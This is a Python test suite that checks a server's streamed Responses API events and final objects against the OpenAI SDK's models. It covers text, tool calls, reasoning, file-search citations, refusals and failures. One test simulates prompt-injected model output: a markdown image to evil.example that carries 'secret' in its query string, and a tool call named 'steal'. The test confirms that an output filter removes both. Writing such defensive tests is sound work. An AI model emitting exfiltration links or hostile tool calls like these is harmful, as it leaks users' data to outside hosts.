"""Every event and object of a response, held against the SDK's own models by pydantic's strict validation."""

import json
from typing import Any
from uuid import UUID

from openai.types.responses import Response, ResponseStreamEvent
from pydantic import TypeAdapter

from inference.grounded_output import GroundedOutput
from inference.outbound import Allowed
from inference.providers.base import Chunk, Completion, Usage
from inference.responses.requests import ResponseRequest, understood
from inference.responses.transcript import ResponseTranscript
from knowledge.retrieval import Passage

ID = UUID("01900000-0000-7000-8000-00000000abcd")
USAGE = Usage(7, 10, cached_input_tokens=3, reasoning_tokens=2)
EVENTS: TypeAdapter[Any] = TypeAdapter(ResponseStreamEvent)
PASSAGE = Passage(
    file_id=UUID(int=1), filename="a.txt", store_file_id=UUID(int=2), chunk_id=UUID(int=3), text="The heron nests here.",
    score=0.9, page=1, start=0, end=21, attributes={"year": 2024},
)  # fmt: skip


def transcript(body: dict[str, Any] | None = None, **options: Any) -> ResponseTranscript:
    request = understood({"model": "m", "input": "hi", **(body or {})})
    return ResponseTranscript(request, id=ID, created=1_700_000_000, clock=lambda: 1_700_000_005.7, **options)


def chunk(delta: dict[str, Any], finish: str | None = None, **more: Any) -> Chunk:
    return Chunk([[{"index": 0, "delta": delta, "finish_reason": finish, **more}]])


def told(transcript: ResponseTranscript, *chunks: Chunk, usage: Usage = USAGE) -> list[dict[str, Any]]:
    """All events of a stream, each valid by the SDK, numbered from 0, its name on the event's line."""
    transcript_bytes = b"".join(transcript.take(part) for part in chunks)
    whole = transcript.completion(usage)
    events = read(transcript_bytes + transcript.closing(usage))
    assert events[-1]["response"] == whole
    return events


def read(sent: bytes) -> list[dict[str, Any]]:
    events = []
    for number, block in enumerate(sent.decode().removesuffix("\n\n").split("\n\n")):
        name, data = block.split("\n")
        event = json.loads(data.removeprefix("data: "))
        assert name == f"event: {event['type']}" and event["sequence_number"] == number
        parsed = EVENTS.validate_python(event)
        assert parsed.type == event["type"]
        events.append(event)
    return events


def names(events: list[dict[str, Any]]) -> list[str]:
    return [event["type"].removeprefix("response.") for event in events]


def test_a_text_is_created_grows_and_is_completed() -> None:
    events = told(transcript(), chunk({"role": "assistant", "content": ""}), chunk({"content": "Hel"}),
                  chunk({"content": "lo"}), chunk({}, "stop"))  # fmt: skip
    assert names(events) == [
        "created", "in_progress", "output_item.added", "content_part.added", "output_text.delta", "output_text.delta",
        "output_text.done", "content_part.done", "output_item.done", "completed",
    ]  # fmt: skip
    assert [event["delta"] for event in events[4:6]] == ["Hel", "lo"]
    assert events[2]["item"]["content"] == [] and events[3]["part"]["text"] == ""
    assert events[0]["response"]["status"] == events[1]["response"]["status"] == "in_progress"
    response = Response.model_validate(events[-1]["response"])
    assert response.id == "resp_" + ID.hex and response.output_text == "Hello" and response.status == "completed"
    assert response.created_at == 1_700_000_000 and response.completed_at == 1_700_000_005
    assert response.usage is not None and response.usage.model_dump(exclude_none=True) == {
        "input_tokens": 7, "input_tokens_details": {"cached_tokens": 3, "cache_write_tokens": 0}, "output_tokens": 10,
        "output_tokens_details": {"reasoning_tokens": 2}, "total_tokens": 17,
    }  # fmt: skip
    # The item is the same one in every event, and its id is the response's with the place of the first output.
    assert {event.get("item_id") or event["item"]["id"] for event in events[2:-1]} == {"msg_" + ID.hex[:-4] + "8000"}


def test_calls_of_functions_may_come_in_turns_and_each_ends_whole() -> None:
    def call(index: int, arguments: str, **named: Any) -> Chunk:
        function = {"arguments": arguments, **({"name": named["name"]} if named else {})}
        more = {"id": named["id"], "type": "function"} if named else {}
        return chunk({"tool_calls": [{"index": index, "function": function, **more}]})

    events = told(
        transcript({"tools": [{"type": "function", "name": "f", "parameters": {}}]}),
        chunk({"content": "Let me look."}), call(0, '{"a"', name="f", id="c0"), call(1, "{}", name="f", id="c1"),
        call(0, ": 1}"), chunk({}, "tool_calls"),
    )  # fmt: skip
    assert names(events)[2:] == [
        "output_item.added", "content_part.added", "output_text.delta", "output_text.done", "content_part.done",
        "output_item.done", "output_item.added", "function_call_arguments.delta", "output_item.added",
        "function_call_arguments.delta", "function_call_arguments.delta", "function_call_arguments.done",
        "output_item.done", "function_call_arguments.done", "output_item.done", "completed",
    ]  # fmt: skip
    _, first, second = events[-1]["response"]["output"]
    assert (first["call_id"], first["arguments"], second["call_id"]) == ("c0", '{"a": 1}', "c1")
    assert [event["output_index"] for event in events if "function_call_arguments" in event["type"]] == [1, 2, 1, 1, 2]


def test_a_chain_of_thought_is_an_item_of_its_own_before_the_message() -> None:
    events = told(transcript(), chunk({"reasoning_content": "Hm"}), chunk({"reasoning_content": "m."}),
                  chunk({"content": "Yes."}, "stop"))  # fmt: skip
    assert names(events)[2:8] == [
        "output_item.added", "content_part.added", "reasoning_text.delta", "reasoning_text.delta", "reasoning_text.done",
        "content_part.done",
    ]  # fmt: skip
    thought, message = events[-1]["response"]["output"]
    assert thought["content"] == [{"type": "reasoning_text", "text": "Hmm."}] and thought["status"] == "completed"
    assert message["content"][0]["text"] == "Yes."


def test_a_search_stands_before_the_message_and_its_markers_become_citations() -> None:
    search = {"tools": [{"type": "file_search", "vector_store_ids": ["vs_1"]}]}
    events = told(transcript(search, passages=[PASSAGE], question="Where?"), chunk({"content": "Here [1]."}, "stop"))
    assert names(events) == [
        "created", "in_progress", "output_item.added", "file_search_call.in_progress", "file_search_call.searching",
        "file_search_call.completed", "output_item.done", "output_item.added", "content_part.added", "output_text.delta",
        "output_text.annotation.added", "output_text.done", "content_part.done", "output_item.done", "completed",
    ]  # fmt: skip
    call, message = events[-1]["response"]["output"]
    assert (call["queries"], call["status"], call["results"]) == (["Where?"], "completed", None)
    cited = message["content"][0]["annotations"]
    assert cited == [events[10]["annotation"]]
    assert cited[0] | {"score": 0} == {
        "type": "file_citation", "index": 5, "file_id": "file-" + UUID(int=1).hex, "filename": "a.txt", "page": 1,
        "start": 0, "end": 21, "score": 0,
    }  # fmt: skip


def test_results_of_a_search_come_only_where_they_are_asked_for() -> None:
    asked = {"tools": [{"type": "file_search", "vector_store_ids": ["v"]}], "include": ["file_search_call.results"]}
    answer = transcript(asked, passages=[PASSAGE], question="Where?")
    answer.take_whole(Completion([{"index": 0, "message": {"content": "Here [1]."}, "finish_reason": "stop"}], USAGE))
    response = Response.model_validate(answer.completion(USAGE))
    call, message = response.output
    assert call.type == "file_search_call" and call.results is not None and call.results[0].text == PASSAGE.text
    assert call.results[0].attributes == {"year": 2024}
    assert message.type == "message" and message.content[0].type == "output_text"
    assert message.content[0].annotations[0].type == "file_citation"


def test_an_answer_cut_short_is_incomplete_and_says_why() -> None:
    for finish, reason in (("length", "max_output_tokens"), ("content_filter", "content_filter")):
        events = told(transcript(), chunk({"content": "Hel"}), chunk({}, finish))
        response = events[-1]["response"]
        assert events[-1]["type"] == "response.incomplete" and response["incomplete_details"] == {"reason": reason}
        assert response["output"][0]["status"] == "incomplete" and response["completed_at"] is None


def test_a_refusal_has_events_and_a_part_of_its_own() -> None:
    events = told(transcript(), chunk({"refusal": "I can"}), chunk({"refusal": "not."}, "stop"))
    assert names(events)[3:8] == [
        "content_part.added", "refusal.delta", "refusal.delta", "refusal.done", "content_part.done"
    ]  # fmt: skip
    assert events[-1]["response"]["output"][0]["content"] == [{"type": "refusal", "refusal": "I cannot."}]


def test_log_probabilities_are_in_the_deltas_and_in_the_whole() -> None:
    token = {"token": "Hi", "logprob": -0.5, "bytes": [72, 105]}
    given = {"content": [{**token, "top_logprobs": [token]}]}
    events = told(transcript({"top_logprobs": 1}), chunk({"content": "Hi"}, "stop", logprobs=given))
    delta = next(event for event in events if event["type"] == "response.output_text.delta")
    assert delta["logprobs"] == [{**token, "top_logprobs": [token]}]
    assert events[-1]["response"]["output"][0]["content"][0]["logprobs"] == delta["logprobs"]


def test_nothing_said_is_an_empty_message_and_only_the_first_choice_counts() -> None:
    events = told(transcript(), Chunk([[{"index": 1, "delta": {"content": "other"}, "finish_reason": "stop"}]], USAGE))
    assert names(events) == ["created", "in_progress", "output_item.added", "output_item.done", "completed"]
    assert events[-1]["response"]["output"][0]["content"] == []


def test_a_failure_after_the_first_event_is_a_failed_response() -> None:
    answer = transcript()
    sent = answer.take(chunk({"content": "Hel"}))
    assert answer.started and answer.text() == "Hel"
    error = {"message": "lost", "type": "server_error", "param": None, "code": "worker_lost"}
    last = read(sent + answer.failing({"error": error}))[-1]
    assert last["type"] == "response.failed" and last["response"]["status"] == "failed"
    # The SDK knows a closed set of codes; ours stands beside it.
    assert last["response"]["error"] == {
        "code": "server_error", "message": "lost", "param": None, "type": "server_error", "reason": "worker_lost"
    }  # fmt: skip
    assert last["response"]["output"][0]["content"][0]["text"] == "Hel"


def test_what_a_document_made_the_model_say_stays_behind_in_streams_too() -> None:
    grounded = GroundedOutput(allowed=Allowed.within(["see https://good.example/a"]), tools=frozenset({"f"}))
    search = {"tools": [{"type": "file_search", "vector_store_ids": ["v"]}]}
    answer = transcript(search, passages=[], question="q", outgoing=grounded)
    said = "See ![x](https://evil.example/?q=secret) and https://good.example/a now."
    evil = {"index": 0, "id": "c", "function": {"name": "steal", "arguments": "{}"}}
    events = told(answer, chunk({"content": said}), chunk({"tool_calls": [evil]}), chunk({}, "tool_calls"))
    assert "evil.example" not in json.dumps(events) and "https://good.example/a" in json.dumps(events)
    assert [item["type"] for item in events[-1]["response"]["output"]] == ["file_search_call", "message"]
    # What is counted is what was produced.
    assert "evil.example" in answer.text() and "steal" in answer.text()


def test_what_is_held_back_goes_out_where_the_stream_ends_without_a_word() -> None:
    grounded = GroundedOutput(allowed=Allowed.within([]), tools=frozenset())
    search = {"tools": [{"type": "file_search", "vector_store_ids": ["v"]}]}
    events = told(transcript(search, passages=[], outgoing=grounded), chunk({"content": "It is see http"}))
    assert events[-1]["response"]["output"][1]["content"][0]["text"] == "It is see http"
    assert "".join(event["delta"] for event in events if event["type"].endswith("text.delta")) == "It is see http"


def test_the_object_repeats_the_request_in_the_sdks_shape() -> None:
    body = {
        "instructions": "Be brief.", "tools": [{"type": "function", "name": "f"}], "temperature": 0.5, "top_p": 0.9,
        "tool_choice": {"type": "function", "name": "f"}, "parallel_tool_calls": False, "max_output_tokens": 100,
        "text": {"format": {"type": "json_schema", "name": "n", "schema": {"type": "object"}, "strict": True}},
        "reasoning": {"effort": "low"}, "metadata": {"a": "b"}, "user": "u", "truncation": "auto", "max_tool_calls": 2,
        "conversation": {"id": "conv_1"}, "prompt_cache_key": "k",
    }  # fmt: skip
    answer = transcript(body)
    answer.take_whole(Completion([{"message": {"content": "{}"}}], USAGE))
    response = Response.model_validate(answer.completion(USAGE))
    assert response.instructions == "Be brief." and response.metadata == {"a": "b"} and response.max_tool_calls == 2
    assert response.text is not None and response.text.format is not None
    assert response.text.format.to_dict() == body["text"]["format"]  # type: ignore[index]
    assert response.conversation is not None and response.conversation.id == "conv_1"
    assert response.tools[0].type == "function" and response.parallel_tool_calls is False
    assert response.reasoning is not None and response.reasoning.effort == "low"


def test_a_stored_request_is_read_as_it_was() -> None:
    given = understood({"model": "m", "input": "hi", "text": {"format": {"type": "json_object"}}, "store": True})
    again = ResponseRequest.model_validate(given.model_dump(by_alias=True, exclude_none=True, exclude_defaults=True))
    assert again == given
